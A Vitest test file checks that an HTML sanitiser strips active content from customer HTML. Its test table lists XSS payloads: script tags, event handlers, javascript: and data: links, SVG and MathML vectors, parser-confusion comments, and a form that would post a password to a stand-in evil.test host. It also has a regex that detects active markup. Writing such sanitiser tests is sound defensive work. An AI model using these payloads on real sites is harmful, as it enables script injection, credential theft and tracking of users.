import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

/** What a browser would load, run or post. */
const active =
  /<(script|iframe|object|embed|form|input|button|svg|math|style|link|meta|base|img|video|audio|picture|source)\b|\son\w+\s*=|javascript:|data:|vbscript:|\b(src|srcset|style|background|action|formaction)\s*=/i

test.each([
  ['a script', '<p>a</p><script>alert(1)</script>'],
  ['a script cut in two', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an event handler', '<p onclick="alert(1)" onmouseover=alert(2)>a</p>'],
  ['a picture that calls home', '<img src="https://track.test/?open=1" onerror=alert(1)>'],
  [
    'a background that calls home',
    '<table background="https://track.test"><tr><td style="background:url(//t.test)">a</table>',
  ],
  ['a style sheet', '<style>@import "https://track.test";</style><link rel=stylesheet href=https://track.test>'],
  ['a frame', '<iframe src="https://evil.test" srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'a form',
    '<form action="https://evil.test"><input name=password><button formaction="https://evil.test">Sign in</button></form>',
  ],
  ['a javascript link', '<a href="javascript:alert(1)">a</a><a href=" java\nscript:alert(1)">b</a>'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  [
    'an SVG with a script',
    '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  ],
  ['MathML', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['a jump elsewhere', '<meta http-equiv=refresh content="0;url=https://evil.test"><base href="https://evil.test/">'],
  ['a broken attribute', '<p title="`><img src=x onerror=alert(1)>">a</p>'],
  ['a conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['text that only looks like markup', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
])('%s of a customer does nothing', (_, html) => {
  // Escaped text is harmless: only what stands between real angle brackets counts.
  const tags = cleanHtml(html).match(/<[^>]*>/g) ?? []
  expect(tags.filter((tag) => active.test(tag))).toEqual([])
})

test('headings, lists, tables and links stay, and links tell the other site nothing', () => {
  const html = '<h2>Steps</h2><ol><li><b>one</b></li></ol><table><tr><td colspan="2">x</td></tr></table>'
  expect(cleanHtml(html)).toBe(html)
  expect(cleanHtml('<a href="https://acme.test/a?b=1&amp;c=2" onclick="x()">here</a>')).toBe(
    '<a href="https://acme.test/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">here</a>',
  )
})

test('a picture becomes its description', () => {
  expect(cleanHtml('<p><img src="cid:x" alt="a broken <cart>"></p>')).toContain('[image: a broken')
})
